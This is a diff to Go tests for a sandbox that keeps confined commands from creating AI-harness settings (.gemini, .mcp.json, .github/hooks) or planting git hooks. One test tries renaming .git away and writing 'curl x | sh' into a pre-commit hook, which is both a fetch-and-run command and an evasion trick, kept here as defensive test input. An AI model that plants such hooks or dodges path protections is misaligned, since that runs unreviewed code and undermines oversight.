@@ -140,6 +140,14 @@ func TestForUnknownEffects(t *testing.T) {
 			t.Errorf("%s is not protected: %v", want, p.Protected)
 		}
 	}
+	for _, want := range []string{".gemini", ".codex", ".cursor", ".opencode", ".github/hooks", ".mcp.json"} {
+		if !slices.Contains(p.Absent, filepath.Join(w.project, want)) {
+			t.Errorf("%s, a protected path that does not exist, is not kept absent: %v", want, p.Absent)
+		}
+	}
+	if slices.Contains(p.Absent, filepath.Join(w.project, ".claude/agents")) {
+		t.Errorf("a path inside an existing protected folder is listed absent: %v", p.Absent)
+	}
 	if p.Network || p.Home != w.home || p.Cwd != w.project {
 		t.Errorf("profile = %+v", p)
 	}
@@ -323,6 +331,18 @@ func TestConfined(t *testing.T) {
 			check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".git/hooks/pre-commit")) }},
 		{name: "git's configuration names no program", argv: sh("echo '[core] fsmonitor = ./x' >> .git/config"), wantCode: 1,
 			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, ".git/config"), "[core]\n") }},
+		{name: "a harness folder that does not exist cannot be made", argv: sh("mkdir -p .gemini; echo '{}' > .gemini/settings.json"),
+			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".gemini")) }},
+		{name: "a harness settings file that does not exist cannot be made", argv: sh("echo '{}' > .mcp.json"),
+			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".mcp.json")) }},
+		{name: "a hooks folder in a folder that does not exist cannot be made", argv: sh("mkdir -p .github/hooks && echo x > .github/hooks/h.json"),
+			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".github")) }},
+		{name: "the folder around a protected one cannot be renamed away",
+			argv: sh("mv .git .git-old; mkdir -p .git/hooks && echo 'curl x | sh' > .git/hooks/pre-commit"), wantCode: 1,
+			check: func(t *testing.T) {
+				wantMissing(t, filepath.Join(w.project, ".git-old"))
+				wantMissing(t, filepath.Join(w.project, ".git/hooks/pre-commit"))
+			}},
 		{name: "governance's configuration is read-only", argv: sh("rm -rf .governance"), wantCode: 1,
 			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, ".governance/config.yaml"), "version: 1\n") }},
 		{name: "the project is writable", argv: sh("echo built > out.txt && mkdir -p build && echo o > build/o"),
